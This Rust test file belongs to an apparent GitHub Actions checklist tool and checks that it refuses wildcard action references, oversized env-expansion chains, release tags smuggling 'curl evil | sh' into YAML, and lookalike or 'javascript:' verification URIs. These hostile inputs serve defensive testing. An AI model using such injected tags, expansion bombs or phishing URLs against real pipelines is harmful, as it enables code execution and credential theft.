//! What a hostile workflow file can and cannot make the checklist do: a
//! `uses:` that is not an action reference (`*/*@v4`, `mallory/*@v4`) never
//! becomes an allowed-actions pattern, at the repository or the
//! organization; it blocks the allow-list fix, naming its line. An action of
//! an owner that is neither GitHub nor a verified creator is offered, but not
//! recommended, and the offer names the line to review.

use crate::support;

use ghcr_setup_core::check::fix::{FixKind, FixOffer};
use ghcr_setup_core::check::{Run, Status};
use ghcr_setup_core::names::{AllowPattern, UsesRef};
use ghcr_setup_core::workflow::{generate, WorkflowOptions};
use support::fixes::{checked, find, status, ALL};
use support::{ready_org, Script};

/// The generated workflow of acme/app with `step` as the first step of its
/// job, and the line that step's `uses:` is on.
fn workflow_with(step: &str) -> (String, usize) {
    let slug = ghcr_setup_core::names::RepoSlug::parse("acme/app").unwrap();
    let yaml = generate(&WorkflowOptions::new(slug).unwrap());
    let at = yaml
        .find("    steps:\n")
        .expect("the generated job has steps")
        + "    steps:\n".len();
    let line = yaml[..at].lines().count() + 1;
    let mut out = yaml.clone();
    out.insert_str(at, &format!("      - uses: {step}\n"));
    (out, line)
}

/// acme/app whose repository allows only selected actions (`acme/*` and
/// GitHub-owned), the organization allowing all, with `yaml` as its workflow.
fn repo_selected(yaml: &str) -> Script {
    let mut s = support::fixes::repo_selected();
    s.set_workflow("acme/app", yaml);
    s
}

/// acme/app allowing everything itself, under an organization that allows
/// only selected actions (`acme/*` and GitHub-owned), with `yaml` as its
/// workflow.
fn org_selected(yaml: &str) -> Script {
    let mut s = support::fixes::org_selected();
    s.set_workflow("acme/app", yaml);
    s
}

fn allow_offer(run: &Run, org: bool) -> Option<FixOffer> {
    find(
        run,
        "allowed-actions",
        |k| matches!(k, FixKind::AllowActions { org: o, .. } if *o == org),
    )
}

fn patterns(offer: &FixOffer) -> Vec<String> {
    match &offer.kind {
        FixKind::AllowActions { patterns, .. } => patterns.iter().map(|p| p.to_string()).collect(),
        _ => Vec::new(),
    }
}

/// No pattern holds a `*` other than its trailing `@*`.
fn assert_exact(patterns: &[String]) {
    for p in patterns {
        let name = p
            .strip_suffix("@*")
            .unwrap_or_else(|| panic!("{p} lacks @*"));
        assert!(
            !name.contains(['*', '!', ',', ' ']),
            "{p} widens the policy"
        );
    }
}

#[test]
fn a_wildcard_uses_never_becomes_a_pattern_of_the_repository_or_the_organization() {
    for bad in ["\"*/*@v4\"", "\"mallory/*@v4\"", "'*/*@v4'", "mallory/*@v4"] {
        let (yaml, line) = workflow_with(bad);
        for org in [false, true] {
            let mut script = if org {
                org_selected(&yaml)
            } else {
                repo_selected(&yaml)
            };
            let run = checked(&mut script, "acme/app", ALL);
            let row = run
                .items(0)
                .into_iter()
                .find(|i| i.meta.id == "allowed-actions")
                .unwrap();
            assert_eq!(row.verdict.status, Status::Fail, "{bad} org={org}");
            assert!(
                row.verdict.summary.contains(&format!("line {line}")),
                "{bad} org={org}: {}",
                row.verdict.summary
            );
            let offer = allow_offer(&run, org)
                .unwrap_or_else(|| panic!("{bad} org={org}: {:#?}", run.offers(0)));
            let reason = offer
                .blocked
                .clone()
                .unwrap_or_else(|| panic!("{bad} org={org}: the offer is not blocked: {offer:#?}"));
            assert!(
                reason.contains(&format!("line {line}")) && reason.contains("*@v4"),
                "{bad} org={org}: {reason}"
            );
            let sent = patterns(&offer);
            assert_exact(&sent);
            assert!(
                sent.iter().all(|p| p.starts_with("docker/")),
                "{bad} org={org}: {sent:?}"
            );
            // A blocked offer cannot be started.
            let mut run = run;
            assert_eq!(
                run.start_fix(&offer, Default::default(), 1_000),
                Err(reason)
            );
            // The other level is not offered a change it does not need.
            assert_eq!(allow_offer(&run, !org), None, "{bad} org={org}");
        }
    }
}

#[test]
fn an_owner_neither_github_nor_verified_is_offered_but_not_recommended() {
    let (yaml, line) = workflow_with("mallory/tool@v4");
    for org in [false, true] {
        let mut script = if org {
            org_selected(&yaml)
        } else {
            repo_selected(&yaml)
        };
        let run = checked(&mut script, "acme/app", ALL);
        assert_eq!(status(&run, "allowed-actions"), Status::Fail);
        let offer = allow_offer(&run, org).expect("offered");
        assert_eq!(offer.blocked, None, "org={org}");
        assert!(!offer.recommended, "org={org}");
        assert!(
            offer
                .confirm
                .contains(&format!("`mallory/tool@v4` (line {line})")),
            "org={org}: {}",
            offer.confirm
        );
        let sent = patterns(&offer);
        assert_exact(&sent);
        assert!(sent.contains(&"mallory/tool@*".to_string()), "{sent:?}");
    }
}

#[test]
fn docker_actions_alone_stay_recommended() {
    let (yaml, _) = workflow_with("actions/cache@v4");
    let mut script = repo_selected(&yaml);
    let run = checked(&mut script, "acme/app", ALL);
    let offer = allow_offer(&run, false).expect("offered");
    assert!(offer.recommended, "{offer:#?}");
    assert_eq!(offer.blocked, None);
    assert!(!offer.confirm.contains("review"), "{}", offer.confirm);
}

#[test]
fn uses_refs_refuse_every_wildcard_list_and_bad_part() {
    for bad in [
        "*/*@v4",
        "mallory/*@v4",
        "*@v4",
        "a/b@*",
        "!a/b@v1",
        "a/b@v1,c/d@v1",
        "a /b@v1",
        "a/b@v 1",
        "-a/b@v1",
        "a--b/c@v1",
        "a/../b@v1",
        "a/b/../c@v1",
        "a/b//c@v1",
        "a/b/./c@v1",
        "a/b/@v1",
        "a/@v1",
        "/b@v1",
        "a/b",
        "a/b@",
        "a/b@v1@v2",
        "a/b@v1~1",
        "a/b@${{ x }}",
        "",
    ] {
        assert!(UsesRef::parse(bad).is_err(), "{bad:?} was accepted");
    }
    let ok = UsesRef::parse("Org/repo.x/.github/workflows/f.yml@v1.2-rc+1").unwrap();
    assert_eq!(ok.name(), "Org/repo.x/.github/workflows/f.yml");
    assert_eq!(
        AllowPattern::exact(&ok).as_str(),
        "Org/repo.x/.github/workflows/f.yml@*"
    );
    for bad in [
        "*/*@*",
        "mallory/*@*",
        "*",
        "a/b",
        "a/b@v1",
        "!a/b@*",
        "a/b*@*",
    ] {
        assert!(AllowPattern::parse(bad).is_err(), "{bad:?} was accepted");
    }
    assert_eq!(
        AllowPattern::parse("docker/login-action@*").map(String::from),
        Ok("docker/login-action@*".to_string())
    );
}

// ---------------------------------------------------------------- expansion

/// A workflow whose `env:` values refer to each other: level `k` is `fan`
/// references to level `k - 1`, level 0 is `base` bytes; the publishing
/// step's tags, registry and a `docker push` read the top level.
fn env_bomb(levels: usize, fan: usize, base: usize) -> String {
    let mut env = format!("  L0: {}\n", "x".repeat(base));
    for k in 1..=levels {
        let refs = format!("${{{{ env.L{} }}}}", k - 1).repeat(fan);
        env.push_str(&format!("  L{k}: \"{refs}\"\n"));
    }
    let top = format!("L{levels}");
    format!(
        "on: push\npermissions:\n  contents: read\nenv:\n{env}jobs:\n  build:\n    runs-on: ubuntu-latest\n    permissions:\n      packages: write\n    steps:\n      - uses: docker/login-action@v4\n        with:\n          registry: ${{{{ env.{top} }}}}\n          username: ${{{{ github.actor }}}}\n          password: ${{{{ secrets.GITHUB_TOKEN }}}}\n      - uses: docker/build-push-action@v7\n        with:\n          push: true\n          tags: ghcr.io/${{{{ env.{top} }}}}:1\n      - run: docker push ghcr.io/$L{levels}:1\n"
    )
}

#[test]
fn an_exponential_env_chain_is_too_large_to_analyze_not_gigabytes() {
    use ghcr_setup_core::analyze::{
        analyze, summarize, AnalyzeError, MAX_EXPANDED_VALUE, TOO_LARGE_TO_ANALYZE,
    };
    // Four levels of 60 references over a 40-byte value: about 3 KiB of
    // YAML that fills in to 60⁴ × 40 bytes ≈ 518 MB per use.
    let yaml = env_bomb(4, 60, 40);
    assert!(yaml.len() < 4 * 1024, "{} bytes", yaml.len());
    let findings = analyze(&yaml).unwrap();
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let f = &findings[0];
    assert_eq!(f.rule, TOO_LARGE_TO_ANALYZE);
    assert!(f.message.contains("too large to analyze"), "{}", f.message);
    assert!(
        f.message
            .contains(&format!("{} KiB", MAX_EXPANDED_VALUE / 1024)),
        "{}",
        f.message
    );
    match summarize(&yaml) {
        Err(AnalyzeError::TooLargeToExpand { line, .. }) => {
            assert!((5..=9).contains(&line), "line {line}")
        }
        other => panic!("{other:?}"),
    }
    // A chain that stays small is filled in as before.
    let small = env_bomb(2, 3, 4);
    let summary = summarize(&small).unwrap();
    let image = &summary.jobs[0].images[0];
    assert!(image.name.contains(&"xxxx".repeat(9)), "{image:?}");
    assert!(analyze(&small)
        .unwrap()
        .iter()
        .all(|f| f.rule != TOO_LARGE_TO_ANALYZE));
}

#[test]
fn a_checklist_with_a_workflow_too_large_to_analyze_is_unknown_and_says_why() {
    let yaml = env_bomb(4, 60, 40);
    let mut script = ready_org("acme/app");
    script.set_workflow("acme/app", &yaml);
    let run = checked(&mut script, "acme/app", ALL);
    let items = run.items(0);
    for id in [
        "workflow-file",
        "workflow-findings",
        "allowed-actions",
        "workflow-permissions",
        "sha-pinning",
        "image-name",
    ] {
        let row = items.iter().find(|i| i.meta.id == id).unwrap();
        assert_eq!(
            row.verdict.status,
            Status::Unknown,
            "{id}: {:?}",
            row.verdict
        );
        assert!(
            row.verdict
                .summary
                .contains(".github/workflows/docker-image.yml")
                && row.verdict.summary.contains("too large to analyze"),
            "{id}: {}",
            row.verdict.summary
        );
    }
    // Nothing is offered for a workflow that was not judged, but replacing it.
    assert!(
        run.offers(0)
            .iter()
            .all(|o| matches!(o.kind, FixKind::ProposeWorkflow | FixKind::CommitWorkflow)),
        "{:#?}",
        run.offers(0)
    );
}

// ---------------------------------------------------------------- smaller findings

#[test]
fn a_live_release_tag_that_could_change_yaml_or_a_terminal_is_refused() {
    use ghcr_setup_core::actions::{is_safe_tag, newest_release, Action, Pin, PinError};
    let sha = "0123456789abcdef0123456789abcdef01234567";
    for bad in [
        "v7.0.1+x\n      - run: curl evil | sh",
        "v7.0.1\n",
        " v7.0.1",
        "v7.0.1+\u{1b}[2J",
        "v7.0.1 # ok",
        "v7.0.1+a..b",
    ] {
        assert!(!is_safe_tag(bad), "{bad:?}");
        let err = Pin::live(Action::Cache, bad, sha, 0).unwrap_err();
        assert!(
            matches!(err, PinError::UnsafeTag(_) | PinError::NotAVersion(_)),
            "{bad:?}: {err:?}"
        );
        let shown = err.to_string();
        assert!(!shown.contains(['\n', '\u{1b}']), "{shown:?}");
    }
    let pin = Pin::live(Action::Cache, "v7.0.1+build.5", sha, 0).unwrap();
    assert_eq!(pin.tag(), "v7.0.1+build.5");
    // The releases list skips such a tag and takes the newest safe one.
    let body = serde_json::json!([
        {"tag_name": "v5.9.0+x\n  - run: evil", "draft": false, "prerelease": false},
        {"tag_name": "v5.0.10", "draft": false, "prerelease": false},
    ])
    .to_string();
    let latest = newest_release(&body, Action::Cache, 5).unwrap();
    assert_eq!(latest.in_major.map(|r| r.tag), Some("v5.0.10".to_string()));
}

#[test]
fn a_verification_uri_off_the_github_host_or_not_https_is_never_shown() {
    use ghcr_setup_core::device_flow::{web_base_for, DeviceFlow, FlowError, Step};
    use ghcr_setup_core::http::HttpResponse;
    let answer = |uri: &str| HttpResponse {
        status: 200,
        headers: vec![("content-type".into(), "application/json".into())],
        body: serde_json::json!({
            "device_code": "d", "user_code": "ABCD-EFGH", "verification_uri": uri,
            "expires_in": 900, "interval": 5
        })
        .to_string(),
    };
    let shows = |web: Option<&str>, uri: &str| {
        let mut flow = DeviceFlow::new("https://relay.example", "Iv1.x", &["repo"]);
        if let Some(web) = web {
            flow = flow.with_web_base(web);
        }
        flow.start_request();
        match flow.on_code_response(0, &answer(uri)) {
            Step::ShowCode {
                verification_uri, ..
            } => Ok(verification_uri),
            Step::Failed(e) => Err(e),
            other => panic!("{other:?}"),
        }
    };
    assert_eq!(
        shows(None, "https://github.com/login/device"),
        Ok("https://github.com/login/device".to_string())
    );
    for bad in [
        "http://github.com/login/device",
        "https://github.com.evil.example/login/device",
        "https://evil.example/login/device",
        "https://github.com@evil.example/login/device",
        "javascript:alert(1)",
        "//github.com/login/device",
        "https://github.com/login/device\n",
        "u",
    ] {
        let err = shows(None, bad).unwrap_err();
        assert!(
            matches!(err, FlowError::UntrustedVerificationUri { .. }),
            "{bad:?}: {err:?}"
        );
        assert!(err.to_string().contains("https://github.com"), "{err}");
    }
    // GitHub Enterprise Server and the fake GitHub on loopback.
    let ghes = web_base_for("https://ghe.example.com/api/v3");
    assert_eq!(ghes, "https://ghe.example.com");
    assert!(shows(Some(&ghes), "https://ghe.example.com/login/device").is_ok());
    assert!(shows(Some(&ghes), "https://github.com/login/device").is_err());
    let fake = web_base_for("http://127.0.0.1:8123");
    assert!(shows(Some(&fake), "http://127.0.0.1:8123/login/device").is_ok());
    assert!(shows(Some(&fake), "http://127.0.0.1:9999/login/device").is_err());
    assert!(shows(
        Some("http://ghe.example.com"),
        "http://ghe.example.com/login/device"
    )
    .is_err());
    assert_eq!(
        web_base_for("https://api.github.com/"),
        "https://github.com"
    );
}
